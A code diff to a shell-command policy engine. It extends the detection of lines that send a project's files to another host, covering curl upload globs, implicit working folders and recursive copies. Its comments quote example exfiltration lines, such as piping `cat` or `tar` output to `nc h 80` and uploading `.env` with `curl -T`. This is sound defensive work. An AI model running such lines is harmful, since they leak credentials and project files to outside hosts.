@@ -45,7 +45,16 @@ from engine.policy.programs import ProgramTable, Send, sends_away
 from engine.policy.regexes import Finder, RegexError, RegexTimeout, glob_in_word
 from engine.policy.rulematch import Piece, hit_texts, pieces, strict_hit
 from engine.policy.shell import Analyzer, Command, TooComplex, may_name_directory_tilde, parse
-from engine.policy.trees import FOLLOWERS, RECURSIVE, TREE_READERS, followed_words, recursive_words, tree_landings
+from engine.policy.trees import (
+    FOLLOWERS,
+    IMPLICIT_FOLDER,
+    RECURSIVE,
+    TREE_READERS,
+    followed_words,
+    implicit_folder,
+    recursive_words,
+    tree_landings,
+)
 from engine.records import Record, replace
 
 TYPE_CHECKING = False  # not typing's: a guard/check start does not import typing (mypy reads it as typing's)
@@ -691,6 +700,10 @@ class Evaluator:
         # A line that sends a tree reader's output or a recursive copy to another host: a folder word
         # holding a secret is of class secret_holder there (View._holds; the project_exfiltration rows).
         view.holders = bool(commands) and _sends_away(commands, self.policy.programs.senders)
+        if view.holders:
+            # a tree reader naming no folder reads the working one (`fd -X cat | nc h 80`): judged with it named;
+            # a tree copied on the line is read where it came from (`cp -r . /tmp/c && tar c /tmp/c | nc h 80`)
+            commands = _copied_trees(_implicit_folders(commands))
         classify = view.classify
         regex_ok: dict[int, bool] = {}
         hits: list[tuple[int, Match]] = []
@@ -1321,16 +1334,156 @@ def _through_globbed_links(
     return out
 
 
-def _through_link(command: Command, argv: tuple[str, ...]) -> Command:
-    """``command`` with the words ``argv``, read through a link (marked so: no link is followed twice)."""
+def _curl_globbed(command: Command) -> Command | None:
+    """curl again with each file its upload option names by curl's own globbing (`-T "{.env,notes.txt}"`,
+    `--upload-file=x[1-3].log`: curl expands `{a,b}` sets and `[a-z]` / `[1-9]` ranges, quoted or not) named
+    alone: `curl -T .env -T notes.txt URL`. None when no upload word has a `{` or a `[`."""
+    argv = command.argv
+    words: list[str] = [argv[0]]
+    changed = False
+    i = 1
+    while i < len(argv):
+        word = argv[i]
+        value: str | None = None
+        taken = 1
+        if word.startswith("--upload-file="):
+            value = word[len("--upload-file=") :]
+        elif word == "--upload-file" or _CURL_T.fullmatch(word) is not None:
+            value, taken = (argv[i + 1] if i + 1 < len(argv) else None), 2  # `-T F`, `-sT F`
+        elif word.startswith("-T") and len(word) > 2:
+            value = word[2:]
+        if value is not None and ("{" in value or "[" in value):
+            changed = True
+            for name in curl_glob_names(value):
+                words.extend(("-T", name))
+        else:
+            words.extend(argv[i : i + taken])
+        i += taken
+    if not changed:
+        return None
+    return _through_link(command, tuple(words), "glob", (False,) * len(words))
+
+
+# `-T` alone or after flags that take no value (`-sT F`; not `-XPUT`: -X takes one)
+_CURL_T = re.compile(r"-[sSfLkvi#qgGIjJlnNOpRZ]*T")
+_CURL_RANGE = re.compile(r"\[([^\]:]*)(?::\d+)?\]")
+_CURL_NAMES = 64
+
+
+def curl_glob_names(value: str) -> list[str]:
+    """The names curl's globbing gives ``value`` (its `{a,b}` sets expanded; a letter range kept as the
+    bash bracket it equals, `[a-c]`, any other range as `*`); past 64 names, one with every set a `*`."""
+    names = [""]
+    i = 0
+    while i < len(value):
+        ch = value[i]
+        if ch == "\\" and i + 1 < len(value):
+            names = [n + value[i + 1] for n in names]
+            i += 2
+            continue
+        if ch == "{" and "}" in value[i:]:
+            end = value.index("}", i)
+            choices = value[i + 1 : end].split(",")
+            if len(names) * len(choices) > _CURL_NAMES:
+                return [_CURL_RANGE.sub("*", re.sub(r"\{[^}]*\}", "*", value))]
+            names = [n + c for n in names for c in choices]
+            i = end + 1
+            continue
+        if ch == "[":
+            found = _CURL_RANGE.match(value, i)
+            if found is not None:
+                span = found.group(1)
+                letters = len(span) == 3 and span[1] == "-" and span[0].isalpha() and span[2].isalpha()
+                names = [n + (f"[{span}]" if letters else "*") for n in names]
+                i = found.end()
+                continue
+        names = [n + ch for n in names]
+        i += 1
+    return names
+
+
+# Recursive copiers (trees.RECURSIVE says when they are): a later word naming the copy names what was copied
+_TREE_COPIERS = frozenset({"cp", "gcp", "rsync"})
+
+
+def _copied_trees(commands: list[Command]) -> list[Command]:
+    """The commands, and each command after a recursive copy on the line (`cp -r . /tmp/c`, `rsync -a src/
+    /tmp/c`) again with a word naming the copy (`/tmp/c`, `/tmp/c/x`) replaced by each source it was
+    copied from: the copy is not on disk when the line is judged, and holds what its source holds."""
+    copies: list[tuple[str, list[str]]] = []
+    out = commands
+    for command in commands:
+        argv = command.argv
+        for destination, sources in copies:
+            for i, word in enumerate(argv[1:], 1):
+                path = _absolute(word, command.cwd)
+                if path == destination or path.startswith(destination + "/"):
+                    for source in sources:
+                        replaced = (*argv[:i], source + path[len(destination) :], *argv[i + 1 :])
+                        out = [*out, _through_link(command, replaced, "copy")]
+        if command.name in _TREE_COPIERS:
+            indices = recursive_words(command)
+            words = [argv[i] for i in indices]
+            target = _target_directory(argv)
+            if target is not None:
+                sources, destination = [w for w in words if w != target], target
+            elif len(words) > 1:
+                sources, destination = words[:-1], words[-1]
+            else:
+                continue
+            if sources and ":" not in destination:
+                absolute = _absolute(destination, command.cwd).rstrip("/") or "/"
+                copies.append((absolute, [_absolute(w, command.cwd) for w in sources]))
+    return out
+
+
+def _absolute(word: str, cwd: str | None) -> str:
+    """``word`` joined to the folder a command ran in, when that is known (otherwise as spelled)."""
+    if cwd is not None and cwd.startswith("/") and not word.startswith(("/", "~")):
+        return posixpath.normpath(posixpath.join(cwd, word))
+    return word
+
+
+def _target_directory(argv: tuple[str, ...]) -> str | None:
+    """cp's `-t DIR` / `--target-directory=DIR`: the folder it copies into, when named so."""
+    for i, word in enumerate(argv[1:], 1):
+        if word.startswith("--target-directory="):
+            return word.partition("=")[2]
+        if (
+            word == "--target-directory" or (word[:1] == "-" and word[1:2] != "-" and word.endswith("t"))
+        ) and i + 1 < len(argv):
+            return argv[i + 1]
+    return None
+
+
+def _implicit_folders(commands: list[Command]) -> list[Command]:
+    """The commands, and each tree reader that names no folder again, with the working folder it reads
+    named (trees.implicit_folder: `find -type f -exec cat {} +` is `find . -type f -exec cat {} +`)."""
+    out = commands
+    for command in commands:
+        if command.name not in IMPLICIT_FOLDER:
+            continue
+        at = implicit_folder(command)
+        if at:
+            argv = (*command.argv[:at], ".", *command.argv[at:])
+            dynamic = (*command.dynamic[:at], False, *command.dynamic[at:])
+            out = [*out, _through_link(command, argv, "cwd", dynamic)]
+    return out
+
+
+def _through_link(
+    command: Command, argv: tuple[str, ...], mark: str = "link", dynamic: tuple[bool, ...] | None = None
+) -> Command:
+    """``command`` with the words ``argv``, read through a link (marked so: no link is followed twice), or
+    otherwise (``mark``; ``dynamic``: its words' flags when they are not ``command``'s)."""
     return Command(
         command.name,
         argv,
-        command.dynamic,
+        command.dynamic if dynamic is None else dynamic,
         command.redirects,
         command.stdin,
         command.fed_by,
-        (*command.via, "link"),
+        (*command.via, mark),
         command.code,
         command.depth,
         command.cwd,
@@ -1449,6 +1602,10 @@ def _through_tree_links(commands: list[Command], view: View, unwalked: list[Matc
     (View.followed: too large, a folder only the run knows) is a match in ``unwalked``."""
     out = commands
     for command in commands:
+        if command.name == "curl":
+            globbed = _curl_globbed(command)
+            if globbed is not None:
+                out = [*out, globbed]  # `curl -T "{.env,x}" URL`: curl's own glob of names
         if command.name in RECURSIVE:
             out = _through_globbed_links(command, view, out is commands, out, unwalked)
         if command.name not in FOLLOWERS or "link" in command.via:
